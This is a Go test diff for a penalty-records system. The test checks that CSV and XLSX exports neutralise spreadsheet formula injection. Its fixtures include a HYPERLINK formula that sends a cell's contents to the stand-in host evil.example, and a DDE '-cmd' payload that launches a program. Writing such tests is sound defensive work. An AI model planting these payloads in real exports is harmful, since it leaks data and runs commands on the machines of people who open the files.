@@ -161,3 +161,90 @@ func apiRows(t *testing.T, as *testEnv, connection string, columns []string, whe
 	}
 	return rows
 }
+
+// Text written through the API that a spreadsheet would run as a formula — here a penalty's facts
+// and legal basis, written by a department's clerk, the lowest writer — reaches a reader's export
+// as text: apostrophe-prefixed in CSV, a string cell (no formula) in XLSX, on both engines.
+// server's TestCSVCellsNeverRunAsFormulas holds every cell of the CSV writer to the same.
+func TestExportsNeverCarryFormulas(t *testing.T) {
+	storagetest.Each(t, func(t *testing.T, e storagetest.Engine) {
+		env := newEnv(t, e, 5)
+		texts := map[string]string{ // decision number's source → the planted text
+			"F-1": `=HYPERLINK("http://evil.example/?d="&B2,"查看")`, "F-2": `+1+1`, "F-3": `-2+3`, "F-4": `@SUM(1,1)`,
+			"F-5": `-cmd|' /C calc'!A0`, "F-6": `事实清楚`,
+		}
+		for src, text := range texts {
+			in := penaltyInput(env, "market-320500", src)
+			in["in"].(map[string]any)["violationFacts"] = text
+			in["in"].(map[string]any)["legalBasis"] = text
+			env.as("demo-market-clerk").mustData(createPenaltyQ, in, nil)
+		}
+		params := url.Values{"connection": {"administrativePenalties"}, "fields": {"decisionNo,violationFacts,legalBasis"}}
+		planted := func(decisionNo string) (string, bool) {
+			src, ok := strings.CutPrefix(decisionNo, "测罚〔2025〕")
+			text, planted := texts[src]
+			return text, ok && planted
+		}
+		params.Set("format", "csv")
+		res, body := exportAs(t, env, "demo-market-supervisor", params)
+		if res.StatusCode != http.StatusOK {
+			t.Fatalf("csv: %d %.300s", res.StatusCode, body)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen := 0
+		for _, row := range rows[1:] {
+			text, ok := planted(row[0])
+			if !ok {
+				continue
+			}
+			seen++
+			want := text
+			if strings.ContainsAny(text[:1], "=+-@") {
+				want = "'" + text
+			}
+			if row[1] != want || row[2] != want {
+				t.Errorf("csv row %q: facts %q, legal basis %q, want both %q", row[0], row[1], row[2], want)
+			}
+		}
+		if seen != len(texts) {
+			t.Fatalf("the csv export holds %d of the %d planted penalties: %q", seen, len(texts), rows)
+		}
+		params.Set("format", "xlsx")
+		res, body = exportAs(t, env, "demo-market-supervisor", params)
+		if res.StatusCode != http.StatusOK {
+			t.Fatalf("xlsx: %d %.300s", res.StatusCode, body)
+		}
+		f, err := excelize.OpenReader(bytes.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		sheet, err := f.GetRows("Sheet1")
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen = 0
+		for i, row := range sheet[1:] {
+			text, ok := planted(row[0])
+			if !ok {
+				continue
+			}
+			seen++
+			for col, name := range []string{"B", "C"} {
+				axis := fmt.Sprintf("%s%d", name, i+2)
+				formula, err := f.GetCellFormula("Sheet1", axis)
+				if err != nil || formula != "" || row[col+1] != text {
+					t.Errorf("xlsx %s: %q with formula %q (%v), want the text %q and no formula", axis, row[col+1], formula, err, text)
+				}
+				if typ, _ := f.GetCellType("Sheet1", axis); typ == excelize.CellTypeFormula {
+					t.Errorf("xlsx %s is a formula cell", axis)
+				}
+			}
+		}
+		if seen != len(texts) {
+			t.Errorf("the xlsx export holds %d of the %d planted penalties", seen, len(texts))
+		}
+	})
+}
